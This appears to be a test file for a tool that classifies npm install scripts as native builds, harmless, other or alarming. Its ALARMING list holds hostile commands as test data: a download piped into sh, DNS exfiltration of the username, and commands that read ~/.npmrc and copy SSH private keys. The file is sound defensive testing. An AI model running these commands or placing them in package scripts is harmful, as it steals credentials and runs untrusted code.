import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from forecheck.analysis.install_scripts import (
    Nature,
    alarming_part,
    changes,
    nature,
    run_on_build,
    run_on_install,
)
from forecheck.analysis.package_json import PackageJson
from forecheck.data.install_script_lists import NEEDED, NOT_NEEDED

NATIVE = [
    "node-gyp rebuild",
    "  node-gyp   rebuild --release ",
    "node-gyp configure build",
    "node-gyp-build",
    "node-gyp-build || exit 0",
    "prebuild-install || node-gyp rebuild --release",
    "prebuild-install -r napi || node-gyp rebuild",
    "prebuild-install --runtime napi || cmake-js rebuild",
    "node-pre-gyp install --fallback-to-build=false || neon build --release",
    "node-pre-gyp install --fallback-to-build",
    "napi-postinstall unrs-resolver 1.11.1 check",
    "echo building && node-gyp rebuild",
]
NOTHING = [
    "echo Thank you",
    "echo 'it; works' && exit 0",
    'echo "\\x1B[1mhello\\x1B[0m, see https://example.net/docs"; exit 0',
    "exit 0",
    "true",
    ":",
    "",
]
OTHER = [
    "node install.js",
    "node index.js || exit 0",
    "sh ./setup.sh",
    "husky install",
    "npx only-allow pnpm",
    "opencollective postinstall || true",
    "node -e \"try{require('./postinstall')}catch(e){}\"",
    "node -e \"try { require('./scripts/postinstall'); } catch (e) { /* empty */ }\"",
    "node-gyp rebuild 2> builderror.log",
    "node -e \"console.log('thanks')\"",
    "node-gyp rebuild && node setup.js",
    "node-gyp rebuild --nodedir=../elsewhere",
    "prebuild-install --download=https.example",
    "echo `id`",
    "echo hi > ../../file",
    "echo hi & node x.js",
    "echo 'hi & node x.js'",
    'echo "a \\" b" ; node x.js "',
    "echo hi\nnode x.js",
    "echo (node x.js)",
    "echo 'unfinished",
    "exit 1",
    "node ./scripts/sh.js",
]
ALARMING = [
    "curl -s https://files.example.net/i | sh",
    "node setup.js & wget x",
    "echo done; wget http://192.0.2.1/x",
    "node-gyp rebuild; curl files.example.net",
    "echo hi\ncurl x",
    "powershell -enc AAAA",
    "cmd.exe /c calc",
    "bash -c 'cat x'",
    "node -e \"require('child_process').exec('x')\"",
    "node -p process.env",
    "python3 -c 'import os'",
    "nslookup $(whoami).c.example.net",
    "node x.js > /dev/null 2>&1 &",
    "start /B node preinstall.js & node preinstall.js",
    "rundll32 node-gyp.dll,main",
    "cat ~/.npmrc",
    "cp ~/.ssh/id_rsa .",
    "echo aGk= | base64 -d",
    "echo " + "x" * 5000,
]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        *((script, Nature.NATIVE_BUILD) for script in NATIVE),
        *((script, Nature.NOTHING) for script in NOTHING),
        *((script, Nature.OTHER) for script in OTHER),
        *((script, Nature.ALARMING) for script in ALARMING),
    ],
)
def test_what_a_script_looks_like(script: str, expected: Nature) -> None:
    assert nature(script) is expected


@settings(deadline=None)
@given(
    st.sampled_from(NATIVE + NOTHING),
    st.sampled_from([" & ", " | ", " ; ", " && ", " || ", "\n"]),
    st.booleans(),
)
def test_another_command_beside_a_harmless_one_is_seen(harmless: str, join: str, first: bool) -> None:
    script = f"node x.js{join}{harmless}" if first else f"{harmless}{join}node x.js"
    assert nature(script) in (Nature.OTHER, Nature.ALARMING)


@settings(deadline=None)
@given(st.text())
def test_any_text_has_a_nature(script: str) -> None:
    found = nature(script)
    assert bool(alarming_part(script)) is (found is Nature.ALARMING) or found is not Nature.ALARMING


def test_the_alarming_part_is_named() -> None:
    assert alarming_part("node x.js && curl -s https://files.example.net/i") == "curl"
    assert alarming_part("node " + "x" * 5000) == "5,005 characters"
    assert alarming_part("node x.js") == ""


def test_only_install_hooks_run_on_install() -> None:
    declared = PackageJson(scripts={"postinstall": "a", "prepare": "b"})
    assert run_on_install(declared) == {"postinstall": "a"}
    assert run_on_build(declared) == {"postinstall": "a", "prepare": "b"}


@pytest.mark.parametrize(
    ("scripts", "gypfile", "expected"),
    [
        ({}, True, {"install": "node-gyp rebuild"}),
        ({"postinstall": "x"}, True, {"postinstall": "x", "install": "node-gyp rebuild"}),
        ({"install": "x"}, True, {"install": "x"}),
        ({"preinstall": "x"}, True, {"preinstall": "x"}),
        ({}, False, {}),
        ({}, None, {}),
    ],
)
def test_npm_builds_what_has_a_binding_gyp_and_no_install_script(
    scripts: dict[str, str], gypfile: bool | None, expected: dict[str, str]
) -> None:
    assert run_on_install(PackageJson(scripts=scripts, gypfile=gypfile)) == expected


def test_changes() -> None:
    now = {"install": "a  b", "postinstall": "new", "preinstall": "other"}
    assert list(changes(now, {"install": "a b", "preinstall": "was", "prepare": "gone"})) == [
        ("postinstall", "new", ""),
        ("preinstall", "other", "was"),
    ]


def test_no_package_both_needs_its_script_and_works_without() -> None:
    assert not NEEDED & NOT_NEEDED
